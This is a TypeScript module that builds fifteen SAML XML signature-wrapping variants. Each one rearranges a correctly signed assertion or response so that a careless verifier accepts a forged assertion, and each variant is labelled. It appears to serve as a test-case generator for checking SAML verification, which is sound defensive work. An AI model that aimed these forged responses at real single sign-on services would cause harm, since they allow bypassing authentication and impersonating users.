/** Signature wrapping: a response that was signed rightly, rearranged so that a careless reader takes a forged assertion for the signed one. */

const find = (xml: string, form: RegExp): string => {
  const [found] = form.exec(xml) ?? []
  if (found === undefined) throw new Error(`${form.source} is not in ${xml.slice(0, 200)}`)
  return found
}
const assertionOf = (xml: string) => find(xml, /<saml:Assertion[\s\S]*<\/saml:Assertion>/)
const signatureOf = (xml: string) => find(xml, /<ds:Signature[\s\S]*?<\/ds:Signature>/)
const idOf = (xml: string) => /ID="([^"]+)"/.exec(xml)?.[1] ?? ''
const without = (xml: string, part: string) => xml.replace(part, () => '')
const instead = (xml: string, part: string, other: string) => xml.replace(part, () => other)
const inside = (xml: string, content: string) =>
  xml.replace(/<\/(?:saml:Assertion|samlp:Response)>\s*$/, (end) => content + end)
const afterIssuer = (xml: string, content: string) => xml.replace('</saml:Issuer>', (end) => end + content)
const objectWith = (signature: string, content: string) =>
  signature.replace('</ds:Signature>', (end) => `<ds:Object>${content}</ds:Object>${end}`)

/** `forge` turns a signed assertion or response into what the attacker wants to be read. */
export function wrapped(
  signedAssertion: string,
  signedResponse: string,
  forge: (xml: string) => string,
): [string, string][] {
  const renamed = (xml: string) => forge(xml).replaceAll(idOf(xml), '_forged')
  const assertion = assertionOf(signedAssertion)
  const signature = signatureOf(assertion)
  const bare = without(assertion, signature)
  const evil = renamed(bare)
  const sameId = forge(bare)
  const around = (content: string) => instead(signedAssertion, assertion, content)

  const responseSignature = signatureOf(signedResponse)
  const bareResponse = without(signedResponse, responseSignature)
  const evilResponse = renamed(bareResponse).replaceAll(idOf(assertionOf(bareResponse)), '_forged-assertion')
  return [
    [
      'a forged response around the signature, which holds the signed one',
      afterIssuer(evilResponse, objectWith(responseSignature, bareResponse)),
    ],
    [
      'a forged response with the signed one and then its signature',
      afterIssuer(evilResponse, bareResponse + responseSignature),
    ],
    [
      'a forged response with the whole signed one inside',
      afterIssuer(evilResponse, `<samlp:Extensions>${signedResponse}</samlp:Extensions>`),
    ],
    ['a forged assertion before the signed one', around(evil + assertion)],
    ['a forged assertion after the signed one', around(assertion + evil)],
    ['a forged assertion around the signed one', around(inside(evil, assertion))],
    [
      'a forged assertion with the signature, the signed one after it',
      around(afterIssuer(evil, signature) + bare),
    ],
    [
      'a forged assertion with the signature, the signed one inside that',
      around(afterIssuer(evil, objectWith(signature, bare))),
    ],
    [
      'a forged assertion in extensions before the signed one',
      instead(
        around(assertion),
        '<samlp:Status>',
        `<samlp:Extensions>${evil}</samlp:Extensions><samlp:Status>`,
      ),
    ],
    [
      'the signed assertion in an object of the forged one’s signature',
      around(inside(afterIssuer(evil, objectWith(signature, assertion)), '')),
    ],
    ['a forged assertion with the same id before the signed one', around(sameId + assertion)],
    [
      'the signed assertion in extensions, a forged one in its place',
      instead(
        around(evil),
        '<samlp:Status>',
        `<samlp:Extensions>${assertion}</samlp:Extensions><samlp:Status>`,
      ),
    ],
    [
      'the signature beside the assertion that it signs',
      instead(around(sameId), '<samlp:Status>', `${signature}<samlp:Status>`),
    ],
    ['a forged assertion under the signature of another', around(afterIssuer(sameId, signature))],
    [
      'a signed response whose assertion was exchanged',
      instead(signedResponse, assertionOf(signedResponse), evil),
    ],
  ]
}
